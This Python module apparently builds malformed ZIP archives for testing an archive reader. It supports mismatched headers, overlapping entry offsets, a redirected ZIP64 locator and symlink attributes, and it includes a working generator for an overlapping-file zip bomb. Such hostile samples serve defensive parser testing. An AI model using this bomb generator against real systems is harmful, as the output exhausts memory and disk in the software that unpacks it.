"""ZIP archives as no ordinary program writes them."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

STORED, DEFLATED = 0, 8
LINK = 0o120777 << 16


@dataclass
class Raw:
    """One entry; `local` and `central` change single fields of one of its two headers."""

    name: bytes
    data: bytes = b""
    method: int = STORED
    flags: int = 0x800
    attributes: int = 0
    packed: bytes | None = None
    size: int | None = None
    crc: int | None = None
    extra: bytes = b""
    offset: int | None = None
    local: dict[str, Any] = field(default_factory=dict)
    central: dict[str, Any] = field(default_factory=dict)

    def fields(self) -> dict[str, Any]:
        body = self.body()
        return {
            "flags": self.flags,
            "method": self.method,
            "crc": zlib.crc32(self.data) if self.crc is None else self.crc,
            "packed": len(body),
            "size": len(self.data) if self.size is None else self.size,
            "name": self.name,
            "extra": self.extra,
        }

    def body(self) -> bytes:
        if self.packed is not None:
            return self.packed
        return deflated(self.data) if self.method == DEFLATED else self.data


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def local_header(f: dict[str, Any]) -> bytes:
    sizes = f["crc"], f["packed"], f["size"], len(f["name"]), len(f["extra"])
    head = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, f["flags"], f["method"], 0, 33, *sizes)
    return b"".join((head, f["name"], f["extra"]))


def central_header(f: dict[str, Any], offset: int, attributes: int = 0) -> bytes:
    sizes = f["crc"], f["packed"], f["size"], len(f["name"]), len(f["extra"]), 0
    head = struct.pack("<4s6H3L", b"PK\x01\x02", 0x314, 20, f["flags"], f["method"], 0, 33, *sizes[:3])
    tail = struct.pack("<5H2L", *sizes[3:], 0, 0, attributes, offset)
    return b"".join((head, tail, f["name"], f["extra"]))


def end(entries: int, size: int, offset: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(entries, 0xFFFF), min(entries, 0xFFFF), size, offset, 0)


def end64(entries: int, size: int, offset: int, at: int) -> bytes:
    """The 64-bit end, its locator pointing at `at`, and the old end."""
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, size, offset)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1)
    return record + locator + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, offset, 0)


def build(entries: Sequence[Raw], *, wide: bool = False, locator: int | None = None) -> bytes:
    """An archive of these entries; `wide` with a 64-bit end, whose locator points at `locator` if given."""
    body, directory = b"", b""
    for entry in entries:
        at = len(body) if entry.offset is None else entry.offset
        if entry.offset is None:
            body += local_header(entry.fields() | entry.local) + entry.body()
        directory += central_header(entry.fields() | entry.central, at, entry.attributes)
    at = len(body) + len(directory)
    if wide:
        return body + directory + end64(len(entries), len(directory), len(body), at if locator is None else locator)
    return body + directory + end(len(entries), len(directory), len(body))


def quoted_overlap_bomb(files: int, kernel_bytes: int) -> bytes:
    """Files that share one kernel: each quotes the next one's header in a stored block, and goes on with its data."""
    kernel = bytes(kernel_bytes)
    packed, content = deflated(kernel), kernel
    headers: list[dict[str, Any]] = []
    for number in reversed(range(files)):
        fields = {
            "flags": 0x800,
            "method": DEFLATED,
            "crc": zlib.crc32(content),
            "packed": len(packed),
            "size": len(content),
            "name": b"%04d.jpg" % number,
            "extra": b"",
        }
        headers.insert(0, fields)
        header = local_header(fields)
        packed = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header + packed
        content = header + content
    # What was put before the first header quotes it for a file that does not exist.
    body, directory, offset = packed[5:], b"", 0
    for fields in headers:
        directory += central_header(fields, offset)
        offset += len(local_header(fields)) + 5
    return body + directory + end(files, len(directory), len(body))
